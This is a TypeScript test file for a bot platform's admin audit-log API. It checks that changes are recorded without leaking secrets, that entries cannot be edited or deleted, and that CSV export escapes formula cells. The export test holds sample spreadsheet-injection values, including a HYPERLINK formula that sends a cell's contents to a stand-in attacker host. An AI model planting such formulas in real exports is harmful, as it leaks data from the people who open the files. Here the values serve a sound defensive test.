import { describe, expect, it } from 'vitest';
import { BOTS } from '../../runtime/test-support.ts';
import { recordAudit } from '../../store/audit.ts';
import { testServer } from '../test-support.ts';

/** RFC 4180 cells, as a spreadsheet reads them. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (!quoted && c === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  return rows;
}

describe('the audit log over the admin API', () => {
  it('records publish, rollback and integration changes, with who and from where, and never a secret', async () => {
    const s = await testServer();
    const saved = await s.admin({ method: 'PUT', url: '/api/v1/admin/bots/quick-lead', headers: { 'content-type': 'application/yaml' }, payload: BOTS.lead });
    expect(saved.statusCode).toBe(201);
    await s.admin({ method: 'PUT', url: '/api/v1/admin/bots/quick-lead', headers: { 'content-type': 'application/yaml' }, payload: BOTS.lead });
    expect((await s.admin({ method: 'POST', url: '/api/v1/admin/bots/quick-lead/publish' })).statusCode).toBe(200);
    expect((await s.admin({ method: 'POST', url: '/api/v1/admin/bots/quick-lead/rollback', payload: { version: 1 } })).statusCode).toBe(200);
    // A refused change is not recorded.
    expect((await s.admin({ method: 'POST', url: '/api/v1/admin/bots/quick-lead/rollback', payload: { version: 9 } })).statusCode).toBe(404);
    const zoho = {
      provider: 'zoho',
      settings: { dc: 'jp', clientId: '1000.CLIENT' },
      secrets: { clientSecret: 'very-secret-value', refreshToken: '1000.refresh-secret' },
    };
    expect((await s.admin({ method: 'PUT', url: '/api/v1/admin/integrations/crm', payload: zoho })).statusCode).toBe(200);
    expect((await s.admin({ method: 'POST', url: '/api/v1/admin/integrations/crm/disable' })).statusCode).toBe(200);
    expect((await s.admin({ method: 'PUT', url: '/api/v1/admin/integrations/crm', payload: { provider: 'builtin' } })).statusCode).toBe(200);

    const res = await s.admin({ url: '/api/v1/admin/audit?limit=50' });
    expect(res.statusCode).toBe(200);
    const { items, total } = res.json();
    expect(total).toBe(7);
    expect(items.map((e: { action: string }) => e.action)).toEqual([
      'integration.disconnect',
      'integration.disable',
      'integration.change',
      'bot.rollback',
      'bot.publish',
      'bot.save',
      'bot.save',
    ]);
    expect(items[4]).toMatchObject({ target: 'bot:quick-lead', details: { version: 2 }, actor: { kind: 'token', name: 'admin token' }, address: '127.0.0.1' });
    expect(items[3]).toMatchObject({ details: { version: 1 } });
    expect(items[2]).toMatchObject({
      target: 'integration:crm',
      details: { provider: 'zoho', settings: { dc: 'jp', clientId: '1000.CLIENT' }, secretsChanged: true },
    });
    expect(res.body).not.toMatch(/very-secret|refresh-secret/);

    expect((await s.admin({ url: '/api/v1/admin/audit?action=bot.save' })).json().total).toBe(2);
    expect((await s.admin({ url: '/api/v1/admin/audit?actorKind=cli' })).json().total).toBe(0);
    const today = new Date().toISOString().slice(0, 10);
    expect((await s.admin({ url: `/api/v1/admin/audit?since=${today}` })).json().total).toBe(7);
    expect((await s.admin({ url: `/api/v1/admin/audit?until=${today}` })).json().total).toBe(0);
  });

  it('exports as CSV, with cells a spreadsheet would run as formulas opened as text, and records the export', async () => {
    const s = await testServer();
    for (const name of ['=HYPERLINK("http://evil.example/?x="&B2)', '+SUM(1,1)', '-1+2', '@cmd', '\t=1', '\r=1', '＝1+1', 'Agent "Mio", 山田']) {
      await recordAudit(s.store.db, { actor: { kind: 'account', id: 'u1', name }, action: 'account.sign_in', address: '10.0.0.1' });
    }
    const res = await s.admin({ url: '/api/v1/admin/audit?format=csv&action=account.sign_in' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="renkei-audit-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows = parseCsv(res.body);
    expect(rows[0]).toEqual(['at', 'action', 'actor_kind', 'actor_id', 'actor_name', 'address', 'target', 'details']);
    const names = rows.slice(1).map((r) => r[4]);
    expect(names).toEqual(['Agent "Mio", 山田', "'＝1+1", "'\r=1", "'\t=1", "'@cmd", "'-1+2", "'+SUM(1,1)", '\'=HYPERLINK("http://evil.example/?x="&B2)']);
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    const exports = (await s.admin({ url: '/api/v1/admin/audit?action=audit.export' })).json();
    expect(exports.items).toEqual([expect.objectContaining({ details: { filter: { action: 'account.sign_in' } } })]);
  });

  it('has no way to change or delete an entry, and refuses a bad filter', async () => {
    const s = await testServer();
    await s.admin({ method: 'POST', url: '/api/v1/admin/integrations/crm/disable' });
    const [entry] = (await s.admin({ url: '/api/v1/admin/audit' })).json().items;
    for (const method of ['DELETE', 'PUT', 'PATCH'] as const) {
      expect((await s.admin({ method, url: '/api/v1/admin/audit' })).statusCode).toBe(404);
      expect((await s.admin({ method, url: `/api/v1/admin/audit/${entry.id}` })).statusCode).toBe(404);
    }
    for (const query of ['action=nope', 'actorKind=robot', 'since=yesterday', 'limit=0', 'format=xml']) {
      const res = await s.admin({ url: `/api/v1/admin/audit?${query}` });
      expect(res.statusCode, query).toBe(400);
    }
    expect((await s.app.inject({ url: '/api/v1/admin/audit' })).statusCode).toBe(401);
    expect((await s.admin({ url: '/api/v1/admin/audit' })).json().total).toBe(1);
  });
});
